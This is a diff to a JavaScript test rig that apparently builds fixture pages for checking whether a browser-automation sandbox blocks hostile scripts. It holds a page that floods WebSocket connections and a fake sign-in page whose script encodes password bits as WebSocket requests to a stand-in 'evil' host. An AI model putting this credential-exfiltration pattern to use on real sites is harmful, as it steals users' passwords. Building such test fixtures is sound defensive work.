@@ -111,7 +111,8 @@ export function chokePointRig() {
             res,
             `<title>Live</title><p>live scores</p><script>
             const base = location.origin.replace('https', 'wss');
-            for (let i = 0; i < 40; i++) new WebSocket(base + '/ws?n=' + i, ['not a token']);
+            // Playwright's socket route (the user's Chrome) takes the bad protocol list; the real constructor throws.
+            for (let i = 0; i < 40; i++) try { new WebSocket(base + '/ws?n=' + i, ['not a token']); } catch {}
             const w = new Worker(URL.createObjectURL(new Blob([\`let i = 0; setInterval(() => { new WebSocket(\${JSON.stringify(base)} + '/ws?n=' + i); new WebSocket(\${JSON.stringify(base)} + '/ws?fresh=' + i); i++ }, 400)\`])));
             </script>`,
           ),
@@ -182,7 +183,7 @@ export function chokePointRig() {
             res,
             `<title>Sign in</title><input type="password" aria-label="Password"><script>
             const evil = ${js(evil)}; const bits = ${bitsOf(secretD.length)};
-            for (let k = 0; k < bits; k++) new WebSocket(evil + '/ws?k=' + k, ['not a token']);
+            for (let k = 0; k < bits; k++) try { new WebSocket(evil + '/ws?k=' + k, ['not a token']); } catch {}
             const w = new Worker(URL.createObjectURL(new Blob([\`onmessage = (e) => { for (const k of e.data) new WebSocket(\${JSON.stringify(evil)} + '/ws?k=' + k) }\`])));
             document.querySelector('input').addEventListener('input', (e) => {
               const v = e.target.value; const ones = [];
